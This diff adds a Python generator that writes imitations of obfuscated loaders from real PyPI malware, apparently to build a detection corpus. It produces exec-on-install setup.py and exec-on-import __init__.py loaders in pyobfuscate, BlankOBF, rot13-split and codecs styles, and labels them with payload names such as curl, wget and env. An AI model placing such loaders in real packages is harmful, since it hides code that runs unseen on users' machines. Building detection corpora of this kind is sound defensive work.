@@ -1,0 +1,126 @@
+"""Imitations of obfuscator loaders seen in real PyPI malware (pyobfuscate.com's seeded random
+division, BlankOBF's eval("eval") loader, the magic/love/god/destiny rot13 split, codecs
+getencoder). Text generation only: nothing here is executed. `random.Random` is used only to
+compute the numbers the loader would divide by; no payload is run."""
+import random
+
+from generate import P, b, b64, q, imitation, base64, bz2, codecs, zlib
+
+
+def octhex(data):
+    """Alternate \\x and octal escapes, as BlankOBF spells names."""
+    return "".join(("\\%o" % c) if i % 2 else ("\\x%02x" % c) for i, c in enumerate(b(data)))
+
+
+def define(setup_with, init_with, rot13):
+    # pyobfuscate.com style: code points times random.randint(1, N) after random.seed(S); S is
+    # hidden as base64(rot13(base64(zlib(digits)))); the division runs in an exec'd string.
+    n = "color-palette-kit"
+    seed, span = 731_902_448_615_207, 100000
+    rng = random.Random(seed)
+    ints = " ".join(str(ord(ch) * rng.randint(1, span)) for ch in P("curl"))
+    hidden = b64(zlib.compress(rot13(b64(str(seed))).encode()))
+    body = (
+        "import random ,base64,codecs,zlib;obf=\"\"\n\n"
+        "watermark = dict(map(lambda k,v:(k,v),['(https://obfuscator.example.invalid)*(decrypt)'],"
+        "['decoy text, not a payload']))\n\n"
+        "_=lambda s,c_int=%d:(_r:=''.join(chr(int(int(s.split()[i])/random.randint(1,c_int)))"
+        "for i in range(len(s.split()))))\n"
+        "__=%s\n"
+        "b=%s\n"
+        "exec(\"random.seed(eval(base64.b64decode(codecs.decode(zlib.decompress("
+        "base64.b64decode(b)).decode(),'rot13').encode())));exec(_(__));random.seed(1)\")\n"
+    ) % (span, q(ints), q(hidden))
+    imitation("pyobfuscate-seeded-random",
+              "pyobfuscate.com style: text = ints / random.randint after random.seed(<hidden seed>), "
+              "exec'd in setup.py", ["exec-dynamic-code"], {
+                  "setup.py": setup_with(n, body)},
+              payload="curl", chain=["seeded-random"], name=n)
+
+    # BlankOBF style: eval("eval"), eval("compile"), names resolved by eval(compile("...")),
+    # four tagged chunks (uu, rot13, hex, base85+hex) joined, then base64 -> uu -> bz2 -> XOR.
+    n = "roblox-stats-lite"
+    key = " Kx3vQ"
+    xored = "".join(chr(ord(c) ^ ord(key[-1])) for c in P("wget")).encode("latin-1")
+    blob = base64.b64encode(codecs.encode(bz2.compress(xored), "uu")).decode()
+    k = len(blob) // 4
+    parts = [blob[:k], blob[k:2 * k], blob[2 * k:3 * k], blob[3 * k:]]
+    chunks = [codecs.encode(parts[0].encode(), "uu") + b"u",
+              (rot13(parts[1]) + "r").encode(),
+              codecs.encode(parts[2].encode(), "hex") + b"h",
+              base64.b85encode(codecs.encode(parts[3].encode(), "hex")) + b"x"]
+    E, C = "_____", "_______"
+    ev = lambda src: f'{E}({C}("{src}","",{E}.__name__))'
+    names = ["______________", "________________", "__________________", "_________________"]
+    lines = [
+        "# Obfuscated loader (imitation for ferret's corpus)",
+        f'{E}=eval("{octhex("eval")}")',
+        f'{C}={E}("{octhex("compile")}")',
+        f"______,____=({ev(chr(95) * 2 + 'import__(' + repr('base64') + ')')},"
+        f"{ev(chr(95) * 2 + 'import__(' + repr('codecs') + ')')})",
+        f"____________________={E}(\"'{key.strip()}'\")",
+        f"________,_________,__________,___________=({ev('exec')},{ev('str.encode')},"
+        f"{ev('isinstance')},{ev('bytes')})",
+        "def ___________________(__________, ___________):",
+        "    __________=__________.decode()",
+        "    _________=''",
+        "    if not ___________[False] == ' ':",
+        "        ___________=' ' + ___________",
+        f"    for _ in range({E}('len(__________)')):",
+        f"        _________ += {E}('chr(ord(__________[_])^ord(___________[(len(___________) - True*2) + True]))')",
+        "    return (_________, ___________)",
+        "def ____________(_____________):",
+        f"    if _____________[-True] != {ev(chr(39) + 'c___6s5___6ardv8' + chr(39) + '[-True*4]')}:",
+        "        _____________ = _________(_____________)",
+        "    if not __________(_____________, ___________):",
+        f"        _____________ = {ev('____.decode(_____________[:-True],' + chr(39) + 'rot13' + chr(39) + ')')}",
+        "    else:",
+        f"        if _____________[-True] == {ev('b' + chr(39) + 'f5sfsdfauf85' + chr(39) + '[-True*4]')}:",
+        f"            _____________ = {ev('____.decode(_____________[:-True],' + chr(39) + 'uu' + chr(39) + ')')}",
+        f"        elif _____________[-True] == {ev('b' + chr(39) + 'd5sfs1dffhsd8' + chr(39) + '[-True*4]')}:",
+        f"            _____________ = {ev('____.decode(_____________[:-True],' + chr(39) + 'hex' + chr(39) + ')')}",
+        "        else:",
+        f"            _____________ = {ev('______.b85decode(_____________[:-True])')}",
+        f"            _____________ = {ev('____.decode(_____________, ' + chr(39) + 'hex' + chr(39) + ')')}",
+        f"        _____________ = {ev('___________.decode(_____________)')}",
+        "    return _____________",
+    ]
+    for nm, chunk in zip(names, chunks):
+        esc = "".join(("\\\\%o" % c) if i % 2 else ("\\\\x%02x" % c) for i, c in enumerate(chunk))
+        lines.append(f"{nm}={ev('___________.decode(b' + chr(39) + esc + chr(39) + ')')}")
+    lines.append(f"_______________={ev('str.join(' + chr(39) * 2 + ', [____________(x) for x in [' + ','.join(names) + ']])')}")
+    lines.append("________(___________________(____.decode(____.decode(______.b64decode("
+                 f"_________(_______________)),'uu'),'bz2'),____________________)[{E}('False')])")
+    imitation("blankobf-eval-loader",
+              "BlankOBF style: eval(\"eval\") aliases, tagged uu/rot13/hex/base85 chunks, "
+              "base64 -> uu -> bz2 -> XOR, exec at import",
+              ["exec-decoded-payload"], {
+                  "roblox_stats_lite/__init__.py": "\n".join(lines) + "\n"},
+              payload="wget", chain=["base85", "hex", "base64", "uu", "bz2", "xor"], name=n)
+
+    # base64 split in four module strings, two of them rot13'd, joined by eval() of constant
+    # names and calls: trust = eval('magic') + eval('codecs.decode(love, joy)') + ...
+    n = "discord-bot-kit"
+    enc = b64(P("hook"))
+    k = len(enc) // 4
+    a, bb, c, d = enc[:k], enc[k:2 * k], enc[2 * k:3 * k], enc[3 * k:]
+    body = (f"import base64, codecs\nmagic = {q(a)}\nlove = {q(rot13(bb))}\ngod = {q(c)}\n"
+            f"destiny = {q(rot13(d))}\njoy = '\\x72\\x6f\\x74\\x31\\x33'\n"
+            "trust = eval('\\x6d\\x61\\x67\\x69\\x63') + eval('codecs.decode(love, joy)') + "
+            "eval('god') + eval('codecs.decode(destiny, joy)')\n"
+            "eval(compile(base64.b64decode(eval('\\x74\\x72\\x75\\x73\\x74')),'<string>','exec'))\n")
+    imitation("eval-constant-rot13-split",
+              "base64 split into magic/love/god/destiny strings (two rot13'd), joined through "
+              "eval() of constant expressions, at import", ["exec-decoded-payload"], {
+                  "discord_bot_kit/__init__.py": init_with(body)},
+              payload="hook", chain=["rot13", "base64"], name=n)
+
+    # codecs.getencoder('utf-8')(text)[0] feeding base64 and zlib, in setup.py.
+    n = "netutil-probe"
+    blob = b64(zlib.compress(b(P("env"))))
+    imitation("codecs-getencoder",
+              "exec(zlib(base64(codecs.getencoder('utf-8')(<literal>)[0]))) in setup.py",
+              ["exec-decoded-payload"], {
+                  "setup.py": setup_with(n, "exec(__import__('zlib').decompress(__import__('base64')"
+                                            f".b64decode(__import__('codecs').getencoder('utf-8')({q(blob)})[0])))\n")},
+              payload="env", chain=["base64", "zlib"], name=n)
